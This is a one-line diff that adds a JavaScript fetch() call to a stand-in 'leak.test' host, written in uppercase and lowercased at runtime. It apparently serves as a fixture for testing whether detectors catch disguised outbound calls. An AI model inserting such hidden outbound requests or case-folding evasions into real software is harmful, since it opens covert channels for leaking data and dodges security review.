@@ -1,0 +1,1 @@
+fetch("HTTPS://js-fold-lower-case.leak.test/".toLowerCase())
